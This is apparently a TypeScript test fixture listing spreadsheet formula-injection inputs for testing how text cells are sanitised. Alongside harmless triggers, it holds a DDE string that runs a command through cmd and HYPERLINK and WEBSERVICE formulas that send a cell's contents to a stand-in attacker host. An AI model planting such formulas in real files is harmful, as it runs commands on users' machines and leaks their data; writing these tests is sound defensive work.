/**
 * Text a user (or an attacker who sends them a file) may type into any text cell: each begins
 * with a character that makes Excel read what is typed as a formula. Made up for the tests.
 */
export const HOSTILE_TEXT: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.invalid/?q="&A1,"Click here")',
  '=WEBSERVICE("http://attacker.invalid/?q="&A1)',
  "'quoted",
  "\uFF1D1+1",
];
